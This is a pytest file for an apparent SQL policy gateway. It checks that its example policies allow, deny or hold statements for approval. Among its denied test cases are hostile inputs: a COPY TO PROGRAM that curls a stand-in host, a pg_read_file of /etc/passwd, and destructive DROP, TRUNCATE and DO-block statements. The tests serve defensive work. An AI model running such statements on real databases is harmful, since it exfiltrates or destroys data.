"""The examples of docs/learn: each is applied as it stands, and decides on real statements as its page says."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest
from django.core.management import call_command
from django_scopes import scope

from accounts.actions import save_membership, save_user
from accounts.models import Agent, Membership, Tenant, User
from controlplane.authority import Role
from controlplane.supervisor.seeding import ADMIN_EMAIL, PEOPLE, TENANT
from policies.access import effective_policy
from policies.engine import Decision, Effect, Principal, SessionPolicy, Target
from policies.engine.columns import counted_columns
from proxyworker.postgres.understand import understand
from targets.actions import save_target
from targets.models import Target as TargetRow

pytestmark = pytest.mark.django_db

LEARN = Path(__file__).parents[2] / "docs" / "learn"
AT = datetime(2026, 11, 23, 12, 0, tzinfo=UTC).timestamp()
ALLOW, DENY, ASK = Effect.ALLOW, Effect.DENY, Effect.REQUIRE_APPROVAL

CASES: dict[str, list[tuple[str, Effect, str]]] = {
    "analyst": [
        ("SELECT city, count(*) FROM customers GROUP BY city", ALLOW, "read-sales"),
        ("SELECT o.amount FROM public.orders o JOIN customers c ON c.id = o.customer_id", ALLOW, "read-sales"),
        ("EXPLAIN SELECT id FROM orders", ALLOW, "read-sales"),
        ("SELECT * FROM customers", DENY, "no-social-security-numbers"),
        ("SELECT name FROM customers WHERE ssn LIKE '1%'", DENY, "no-social-security-numbers"),
        ("SELECT c FROM customers c", DENY, "no-social-security-numbers"),
        ("SELECT card_number FROM payments", DENY, ""),
        ("SELECT id FROM orders UNION SELECT id FROM payments", DENY, ""),
        ("INSERT INTO orders SELECT * FROM orders", DENY, ""),
        ("WITH gone AS (DELETE FROM orders RETURNING id) SELECT id FROM gone", DENY, ""),
        ("EXPLAIN ANALYZE DELETE FROM orders", DENY, ""),
        ("SELECT pg_read_file('/etc/passwd')", DENY, ""),
        ("SELECT id FROM orders; SELECT id FROM orders", DENY, ""),
        ("COPY customers TO PROGRAM 'curl evil.example'", DENY, ""),
        ("SET search_path = secret", DENY, ""),
        ("SELEKT 1", DENY, ""),
    ],
    "support": [
        ("SELECT id, name, city FROM customers WHERE id = 7", ALLOW, "read-customers-and-orders"),
        ("UPDATE orders SET status = 'shipped' WHERE id = 7", ALLOW, "move-orders-on"),
        ("UPDATE orders SET status = 'shipped'", DENY, "one-order-at-a-time"),
        ("UPDATE orders SET amount = 0 WHERE id = 7", DENY, ""),
        ("DELETE FROM orders WHERE id = 7", DENY, ""),
        ("SELECT card_number FROM payments", DENY, ""),
    ],
    "reply": [
        ("SELECT name, email FROM customers WHERE city = 'Porto'", ALLOW, "read-customers-and-orders"),
        ("SELECT lower(email) FROM public.customers", ALLOW, "read-customers-and-orders"),
        ("SELECT phone FROM customers", DENY, ""),
        ("SELECT card_number FROM payments", DENY, ""),
        ("CREATE TABLE copy AS SELECT email FROM customers", DENY, ""),
    ],
    "migration": [
        ("SELECT count(*) FROM orders", ALLOW, "look-first"),
        ("ALTER TABLE orders ADD COLUMN weight integer", ASK, "change-the-schema"),
        ("CREATE INDEX ON orders (status)", ASK, "change-the-schema"),
        ("UPDATE orders SET quantity = 1 WHERE quantity IS NULL", ASK, "move-data"),
        ("DROP TABLE orders", DENY, "never-drop"),
        ("ALTER TABLE orders DROP COLUMN amount", DENY, "never-drop"),
        ("TRUNCATE orders", DENY, "never-drop-or-truncate"),
        ("GRANT ALL ON orders TO PUBLIC", DENY, ""),
        ("DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$", DENY, ""),
    ],
    "incident": [
        ("SELECT id, status FROM orders WHERE status = 'open'", ALLOW, "look"),
        ("SELECT state, query FROM pg_catalog.pg_stat_activity", ALLOW, "look"),
        ("SELECT id, amount FROM payments", ALLOW, "look"),
        ("SELECT card_number FROM payments", DENY, "not-at-cards"),
        ("UPDATE orders SET status = 'paid' WHERE id = 7", ASK, "repair"),
        ("DELETE FROM orders", DENY, "not-all-rows"),
        ("DROP TABLE orders", DENY, ""),
    ],
}


@pytest.fixture
def demo() -> Tenant:
    """The demo's tenant, its people and its target: the examples apply there as they are."""
    tenant = Tenant.objects.create(slug=TENANT, name="Demo Shop")
    for email, role in {ADMIN_EMAIL: "owner", **PEOPLE}.items():
        user = save_user(User(email=email), acting_user=None)
        save_membership(Membership(tenant=tenant, user=user, role=Role(role)), acting_user=None)
    with scope(tenant=tenant):
        target = TargetRow(tenant=tenant, name="shop", host="db.internal", database="shop")
        save_target(target, acting_user=None)
    return tenant


def session_of(tenant: Tenant, example: str) -> SessionPolicy:
    """What the example's agent meets on the target, once the example is applied."""
    call_command("apply", file=[LEARN / f"{example}.yaml"])
    with scope(tenant=tenant):
        agent = Agent.objects.get()
        principal = Principal(id=str(agent.pk), name=agent.name, groups=tuple(agent.groups))
        return SessionPolicy(effective_policy(tenant.pk), principal=principal, target=Target(name="shop"))


def decide(session: SessionPolicy, text: str) -> Decision:
    """As the gate would."""
    return session.decide(understand(text.encode()).operation, now=AT, text=text)


@pytest.mark.parametrize("example", CASES)
def test_an_example_decides_as_its_page_says(demo: Tenant, example: str) -> None:
    session = session_of(demo, example)
    for text, effect, rule in CASES[example]:
        decision = decide(session, text)
        assert (decision.effect, text) == (effect, text), decision
        assert not rule or decision.rule.rpartition("/")[2] == rule, (text, decision)


@pytest.mark.parametrize("example", CASES)
def test_applying_an_example_again_changes_nothing(
    demo: Tenant, example: str, capsys: pytest.CaptureFixture[str]
) -> None:
    session_of(demo, example)
    capsys.readouterr()
    call_command("apply", file=[LEARN / f"{example}.yaml"])
    assert capsys.readouterr().out.endswith("no changes\n")


def test_every_example_has_its_cases_and_its_place_on_the_page() -> None:
    files = {file.stem for file in LEARN.glob("*.yaml")}
    assert files == set(CASES)
    page = (LEARN / "README.md").read_text()
    assert all(f"{name}.yaml" in page for name in files)


@pytest.mark.parametrize("text", ["SELECT email FROM customers", "SELECT * FROM customers", "SELECT c FROM customers c",
                                  "SELECT upper(phone) FROM public.customers"])  # fmt: skip
def test_what_support_may_see_masked_only_is_never_shown_plain(demo: Tenant, text: str) -> None:
    decision = decide(session_of(demo, "support"), text)
    assert decision.effect is ALLOW
    masked = [obligation for obligation in decision.obligations if obligation.mask is not None]
    assert [obligation.object for obligation in masked] == ["public.customers"] or masked[0].object == "customers"


def test_what_the_reply_bot_reads_counts_by_the_label_that_its_file_gives(demo: Tenant) -> None:
    [obligation] = decide(session_of(demo, "reply"), "SELECT email FROM customers").obligations
    assert obligation.limit is not None
    assert (obligation.limit.distinct, obligation.limit.labels) == (50, ("email",))
    with scope(tenant=demo):
        policy = effective_policy(demo.pk)
    assert counted_columns(obligation.limit, policy, "shop") == {"public.customers.email"}


def test_what_analysts_read_counts_towards_their_day(demo: Tenant) -> None:
    decision = decide(session_of(demo, "analyst"), "SELECT id FROM orders")
    [limited] = [obligation.limit for obligation in decision.obligations if obligation.limit is not None]
    assert (limited.rows, limited.statement_seconds) == (200_000, 30)


def test_a_migration_asks_two_people_and_holds_or_defers(demo: Tenant) -> None:
    session = session_of(demo, "migration")
    held, deferred = (
        decide(session, text).approval
        for text in ("ALTER TABLE orders ADD COLUMN weight integer", "DELETE FROM orders WHERE id = 7")
    )
    assert held is not None
    assert deferred is not None
    assert (held.flow, held.mode, deferred.mode) == ("two-of-the-data-team", "hold", "defer")
